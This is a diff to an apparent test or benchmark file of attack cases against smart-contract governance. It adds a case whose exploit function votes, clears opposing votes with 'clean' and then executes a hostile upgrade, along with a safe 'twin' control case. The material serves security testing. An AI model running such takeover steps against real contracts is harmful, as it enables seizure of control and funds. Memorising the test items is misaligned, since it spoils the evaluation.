@@ -2,7 +2,7 @@
 import { concatHex, type Hex, keccak256, stringToHex } from 'viem'
 import { signers } from '../../evm/control.ts'
 import type { Attack } from '../attack.ts'
-import { type Case, WEAK, WITHOUT_DELAY } from '../case.ts'
+import { type Case, type Twin, WEAK, WITHOUT_DELAY } from '../case.ts'
 import { type Built, type Chain, callData, system } from '../chain.ts'
 import { deploySafe, execSigned, upgradeCall } from '../safes.ts'
 import { controlledBy, part } from './lying-getters.ts'
@@ -194,6 +194,29 @@ const drafts: readonly Draft[] = [
     exploit: pass('vote(bytes32,bool)', [], undefined, 3),
   },
   {
+    name: 'votes against a proposal can be removed',
+    by: 'anyone',
+    cause: 'lying getter',
+    build: async (chain) => {
+      const code = await chain.deploy('Taken')
+      const built = await voted('ForgetfulBallots', 'OneEach')(chain)
+      const [controller, target] = [part(built, 'controller'), part(built, 'admin')]
+      const data = upgradeCall(built.address, code)
+      await chain.send(controller, 'propose(address,bytes)', [target, data])
+      for (const voter of signers(3))
+        await chain.send(controller, 'vote(bytes32,bool)', [proposal(target, data), false], voter)
+      return { ...built, parts: { ...built.parts, code } }
+    },
+    exploit: async (attack, built) => {
+      const [controller, target] = [part(built, 'controller'), part(built, 'admin')]
+      const data = upgradeCall(built.address, part(built, 'code'))
+      await attack.send(controller, 'vote(bytes32,bool)', [proposal(target, data), true])
+      await attack.send(controller, 'clean(bytes32)', [proposal(target, data)])
+      await attack.wait(700_000)
+      await attack.send(controller, 'execute(address,bytes)', [target, data])
+    },
+  },
+  {
     name: 'the caller says how often its vote counts',
     by: 'anyone',
     cause: 'lying getter',
@@ -295,3 +318,14 @@ const drafts: readonly Draft[] = [
 ]
 
 export const lists: readonly Case[] = drafts.map((draft) => ({ cause: 'other guard', truth: WEAK, ...draft }))
+
+/** The same without the trick. */
+export const listTwins: readonly Twin[] = [
+  {
+    name: 'a vote on a new proposal begins with no votes',
+    cause: 'lying getter',
+    twinOf: 'votes against a proposal can be removed',
+    deserves: 'multisig',
+    build: voted('StartingBallots', 'OneEach'),
+  },
+]
